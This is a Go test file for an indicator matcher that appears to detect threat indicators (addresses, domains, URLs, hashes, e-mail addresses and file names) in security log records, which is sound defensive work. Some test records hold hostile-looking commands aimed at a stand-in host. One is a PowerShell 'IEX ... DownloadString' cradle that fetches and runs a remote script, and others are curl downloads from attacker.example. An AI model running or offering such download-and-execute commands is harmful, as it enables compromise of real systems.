package indicators_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"wardwatch/ward"
	"wardwatch/watch"
	"wardwatch/watch/detect/indicators"
)

var day = time.Date(2025, 5, 13, 12, 0, 0, 0, time.UTC)

// index makes an Index of lines as a file has them.
func index(t testing.TB, clock ward.Clock, names *watch.Names, lines ...string) *indicators.Index {
	t.Helper()
	x, err := indicators.New(indicators.Options{Clock: clock, Names: names})
	if err != nil {
		t.Fatal(err)
	}
	err = x.Fill(func(give func(ward.Indicator) error) error {
		return indicators.Read(strings.NewReader(strings.Join(lines, "\n")), "list", give, func(b *indicators.BadLine) { t.Error(b) })
	})
	if err != nil {
		t.Fatal(err)
	}
	return x
}

// record makes a record of "Field=value".
func record(names *watch.Names, values ...string) *watch.Record {
	r := &watch.Record{}
	for _, v := range values {
		name, text, _ := strings.Cut(v, "=")
		value := watch.Value{Name: []byte(name), Text: []byte(text)}
		if names != nil {
			value.Field = names.Find(value.Name)
		}
		r.Values = append(r.Values, value)
	}
	return r
}

func TestWhatARecordShows(t *testing.T) {
	sha1, sha256 := strings.Repeat("1f", 20), strings.Repeat("2e", 32)
	md5, sha512 := strings.Repeat("3d", 16), strings.Repeat("4c", 64)
	names := watch.NewNames(indicators.Fields()...)
	for _, row := range []struct {
		name, indicator, value string
		want                   string // the text that matches; empty: none
	}{
		{"address", "203.0.113.7", "DestinationIp=203.0.113.7", "203.0.113.7"},
		{"address with port", "203.0.113.7", "d=203.0.113.7:8080", "203.0.113.7"},
		{"address in a text", "203.0.113.7", "m=Failed password for root from 203.0.113.7 port 22", "203.0.113.7"},
		{"address at the end of a sentence", "203.0.113.7", "m=Blocked 203.0.113.7.", "203.0.113.7"},
		{"longer number", "203.0.113.7", "d=203.0.113.70", ""},
		{"five parts", "203.0.113.7", "d=203.0.113.7.1", ""},
		{"address as IPv6", "203.0.113.7", "IpAddress=::ffff:203.0.113.7", "::ffff:203.0.113.7"},
		{"address as IPv6, in hexadecimal", "203.0.113.7", "d=::FFFF:cb00:7107", "::FFFF:cb00:7107"},
		{"indicator as IPv6", "::ffff:203.0.113.7", "d=203.0.113.7", "203.0.113.7"},
		{"browser's version", "91.0.72.124", "ua=Mozilla/5.0 Chrome/91.0.72.124 Safari/537.36", ""},
		{"file's version", "10.0.190.1", "FileVersion=10.0.190.1", ""},
		{"address after a slash", "203.0.113.7", "m=connect to /203.0.113.7:443", "203.0.113.7"},
		{"IPv6", "2001:db8::1", "d=2001:DB8:0:0:0:0:0:1", "2001:DB8:0:0:0:0:0:1"},
		{"IPv6 with port", "2001:db8::1", "d=[2001:db8::1]:443", "2001:db8::1"},
		{"IPv6 with zone", "fe80::1", "d=fe80::1%eth0", "fe80::1"},
		{"IPv6 in a text", "2001:db8::1", "m=from 2001:db8::1: refused", "2001:db8::1"},
		{"time of day", "2001:db8::1", "m=12:34:56", ""},
		{"network", "203.0.113.0/28", "d=203.0.113.7", "203.0.113.7"},
		{"beside the network", "203.0.113.0/28", "d=203.0.113.16", ""},
		{"network whose bits are not clean", "203.0.113.9/28", "d=203.0.113.7", "203.0.113.7"},
		{"network of IPv6", "2001:db8:4000::/34", "d=2001:db8:7fff::9", "2001:db8:7fff::9"},
		{"network as IPv6", "::ffff:203.0.113.0/120", "d=203.0.113.7", "203.0.113.7"},
		{"address in a URL", "203.0.113.7", "u=http://203.0.113.7/a", "203.0.113.7"},

		{"domain", "attacker.example", "QueryName=attacker.example", "attacker.example"},
		{"domain, its dot and case", "attacker.example", "QueryName=Attacker.EXAMPLE.", "Attacker.EXAMPLE"},
		{"below the domain", "attacker.example", "q=a.b.attacker.example", "a.b.attacker.example"},
		{"beside the domain", "attacker.example", "q=notattacker.example", ""},
		{"above the domain", "www.attacker.example", "q=attacker.example", ""},
		{"domain as prefix of another", "attacker.example", "q=attacker.example.org", ""},
		{"defanged", "attacker[.]example", "q=attacker.example", "attacker.example"},
		{"defanged in a record", "attacker.example", "q=attacker[.]example", ""},
		{"public suffix is no parent", "github.io", "q=honest.github.io", ""},
		{"public suffix itself", "github.io", "q=github.io", "github.io"},
		{"country's suffix", "co.uk", "q=www.honest.co.uk", ""},
		{"internationalised", "bücher.example", "q=www.xn--bcher-kva.example", "www.xn--bcher-kva.example"},
		{"internationalised in the record", "xn--bcher-kva.example", "q=BÜCHER.example", "BÜCHER.example"},
		{"in a URL", "attacker.example", "u=https://user:pw@www.attacker.example:8443/x", "www.attacker.example"},
		{"in a command", "attacker.example", "CommandLine=curl -o x attacker.example/x", "attacker.example"},
		{"in an e-mail address", "attacker.example", "m=<jo@attacker.example>", "attacker.example"},
		{"share", "attacker.example", `m=\\attacker.example\share\x`, "attacker.example"},
		{"share in a field of paths", "attacker.example", `ImageLoaded=\\attacker.example\share\x.dll`, "attacker.example"},
		{"part of a path", "run.example", `m=C:\tools\run.example`, ""},
		{"program that looks like a domain", "setup.com", "OriginalFileName=setup.com", ""},

		{"URL", "http://attacker.example/gate.php?id=1", "u=http://attacker.example/gate.php?id=1", "http://attacker.example/gate.php?id=1"},
		{"URL, defanged", "hxxps[://]attacker[.]example/gate.php", "u=https://attacker.example/gate.php", "https://attacker.example/gate.php"},
		{"URL by its rules", "http://attacker.example/a", "u=HTTPS://u:p@ATTACKER.example.:443/b/../%61#top", "HTTPS://u:p@ATTACKER.example.:443/b/../%61#top"},
		{"URL, another case of path", "http://attacker.example/a", "u=http://attacker.example/A", ""},
		{"URL, another port", "http://attacker.example:8080/a", "u=http://attacker.example/a", ""},
		{"URL without path", "http://attacker.example", "u=http://attacker.example/", "http://attacker.example/"},
		{"URL in a command", "http://attacker.example/x.ps1", "c=IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/x.ps1')", "http://attacker.example/x.ps1"},
		{"URL in a sentence", "http://attacker.example/x", "m=see (http://attacker.example/x).", "http://attacker.example/x"},
		{"URL without scheme", "http://attacker.example/x", "c=curl attacker.example/x", "attacker.example/x"},
		{"URL in a URL", "http://attacker.example/x", "u=http://honest.example/?to=http://attacker.example/x", "http://attacker.example/x"},
		{"URL of an address", "http://203.0.113.7:8080/x", "u=http://203.0.113.7:8080/x", "http://203.0.113.7:8080/x"},
		{"URL of an address, IPv6", "http://[2001:db8::1]/x", "u=http://[2001:DB8:0::1]:80/x", "http://[2001:DB8:0::1]:80/x"},
		{"URL, another scheme", "ftp://attacker.example/x", "u=http://attacker.example/x", ""},
		{"URL's beginning", "http://attacker.example/mifs/*", "u=http://attacker.example/mifs/rs/api/v2/featureusage?format=%24%7B", "http://attacker.example/mifs/rs/api/v2/featureusage?format=%24%7B"},
		{"URL's beginning, in a word", "http://attacker.example/mi*", "u=http://attacker.example/mifs", "http://attacker.example/mifs"},
		{"URL that does not begin so", "http://attacker.example/mifs/*", "u=http://attacker.example/mif", ""},

		{"md5", md5, "Hashes=MD5=" + strings.ToUpper(md5) + ",SHA256=" + sha256, strings.ToUpper(md5)},
		{"sha1", sha1, "Hashes=SHA1=" + sha1 + ",MD5=" + md5, sha1},
		{"sha256", sha256, "Hashes=SHA1=" + sha1 + ",MD5=" + md5 + ",SHA256=" + sha256 + ",IMPHASH=" + md5, sha256},
		{"sha512", sha512, "h=" + sha512, sha512},
		{"digest in a text", sha256, "m=file with digest " + sha256 + " was seen", sha256},
		{"part of a longer number", md5, "h=" + md5 + "00", ""},

		{"e-mail address", "Jo.Bloggs@Attacker.example", "m=From: <jo.bloggs@attacker.example>", "jo.bloggs@attacker.example"},
		{"another e-mail address", "jo@attacker.example", "m=notjo@attacker.example", ""},
		{"below the e-mail's domain", "jo@attacker.example", "m=jo@www.attacker.example", ""},

		{"file", "evil-tool.exe", `Image=C:\Windows\Temp\Evil-Tool.exe`, "Evil-Tool.exe"},
		{"file in a command", "evil-tool.exe", `CommandLine="C:\Windows\Temp\evil-tool.exe" -a`, "evil-tool.exe"},
		{"file at the end of a URL", "stage2.bin", "u=http://honest.example/a/stage2.bin?x=1", "stage2.bin"},
		{"file with a blank", "evil tool.exe", `Image=C:\Program Files\evil tool.exe`, "evil tool.exe"},
		{"file without a dot", "file:dropper", "exe=/tmp/dropper", "dropper"},
		{"file in parentheses", "evil-tool.exe", "m=started (evil-tool.exe).", "evil-tool.exe"},
		{"end of another file", "tool.exe", `Image=C:\eviltool.exe`, ""},
		{"host that looks like a file", "mail.exe", "QueryName=mail.exe", ""},
	} {
		t.Run(row.name, func(t *testing.T) {
			indicator := row.indicator
			if name, ok := strings.CutPrefix(indicator, "file:"); ok {
				indicator = "type,value\nfile," + name
			}
			x := index(t, ward.NewHandClock(day), names, indicator)
			r := record(names, row.value)
			got := []string{}
			for _, h := range x.Look(r, nil) {
				got = append(got, string(h.Value))
			}
			want := []string{}
			if row.want != "" {
				want = append(want, row.want)
			}
			if !slices.Equal(got, want) {
				t.Errorf("got %q, want %q", got, want)
			}
		})
	}
}
